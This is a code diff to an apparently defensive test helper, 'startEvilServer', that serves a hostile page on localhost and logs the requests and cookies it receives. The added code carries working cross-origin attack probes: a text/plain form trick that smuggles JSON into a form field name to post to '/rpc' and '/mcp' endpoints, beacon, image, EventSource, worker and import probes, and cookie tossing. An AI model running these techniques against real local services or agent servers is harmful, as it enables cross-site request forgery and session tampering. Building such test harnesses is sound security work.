@@ -7,6 +7,8 @@ export interface EvilServer {
   /** Header lines of every request, and whatever its page found, as text. */
   readonly got: () => string;
   readonly cookies: () => readonly string[];
+  /** Every further answer sets this cookie. */
+  readonly tosses: (cookie: string) => void;
   readonly close: () => Promise<void>;
 }
 
@@ -33,6 +35,39 @@ const script = (url) => new Promise((resolve) => {
   made.src = url;
   document.head.append(made);
 });
+const settled = async (what) => {
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  return what();
+};
+const form = (url, text) => {
+  const name = 'f' + Math.random();
+  const target = document.createElement('iframe');
+  target.name = name;
+  document.body.append(target);
+  const made = document.createElement('form');
+  Object.assign(made, { method: 'POST', enctype: 'text/plain', action: url, target: name });
+  const field = document.createElement('input');
+  // A form sends NAME=VALUE: the sign goes into a member that nobody reads.
+  field.name = text.slice(0, -1) + ',"x":"';
+  field.value = '"}';
+  made.append(field);
+  document.body.append(made);
+  const answered = new Promise((resolve) => (target.onload = () => resolve(said(() => String(target.contentDocument?.body.innerText)))));
+  made.submit();
+  return Promise.race([answered, settled(() => 'nothing')]);
+};
+const image = (url) => new Promise((resolve) => {
+  const made = new Image();
+  made.onload = () => resolve('loaded');
+  made.onerror = () => resolve('refused');
+  made.src = url;
+});
+const source = (url) => new Promise((resolve) => {
+  const made = new EventSource(url, { withCredentials: true });
+  made.onmessage = (event) => resolve(event.data);
+  made.onopen = () => resolve('open');
+  made.onerror = () => (made.close(), resolve('refused'));
+});
 const heard = [];
 addEventListener('message', (event) => heard.push(String(event.data)));
 async function tryAll(origin) {
@@ -55,17 +90,39 @@ async function tryAll(origin) {
   await fetch('/found', { method: 'POST', body: JSON.stringify(found) });
   return found;
 }
+async function tryMore(origin, act) {
+  const worker = await navigator.serviceWorker.register('/worker.js', { scope: '/' });
+  const found = {
+    form: await form(origin + '/rpc', act),
+    enter: await form(origin + '/enter', '{"code":"x"}'),
+    agent: await form(origin + '/mcp', act),
+    beacon: await said(() => settled(() => String(navigator.sendBeacon(origin + '/rpc', act)))),
+    image: await image(origin + '/open?key=x'),
+    source: await source(origin + '/stream'),
+    shared: await said(() => new SharedWorker(origin + '/assets/x.js').port),
+    module: await said(() => import(origin + '/rpc')),
+    worker: String(worker.scope.startsWith(location.origin)),
+  };
+  await worker.unregister();
+  return found;
+}
 </script></body></html>`;
 
 export async function startEvilServer(): Promise<EvilServer> {
   const got: string[] = [];
   const cookies: string[] = [];
+  const toss: string[] = [];
   const server = createServer((request, response) => {
     const headers: IncomingHttpHeaders = request.headers;
     got.push(`${request.method} ${request.url} ${JSON.stringify(headers)}`);
     if (headers.cookie !== undefined) cookies.push(...headers.cookie.split(/; */));
     request.on('data', (part: Buffer) => got.push(part.toString('utf8')));
-    request.on('end', () => response.setHeader('Content-Type', 'text/html').end(PAGE));
+    request.on('end', () => {
+      const isWorker = request.url === '/worker.js';
+      response.setHeader('Content-Type', isWorker ? 'text/javascript' : 'text/html');
+      for (const cookie of toss) response.appendHeader('Set-Cookie', cookie);
+      response.end(isWorker ? 'addEventListener("fetch", () => undefined);' : PAGE);
+    });
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   const { port } = server.address() as AddressInfo;
@@ -73,6 +130,7 @@ export async function startEvilServer(): Promise<EvilServer> {
     port,
     got: () => got.join('\n'),
     cookies: () => cookies,
+    tosses: (cookie) => void toss.push(cookie),
     close: () =>
       new Promise((resolve) => {
         server.close(() => resolve());
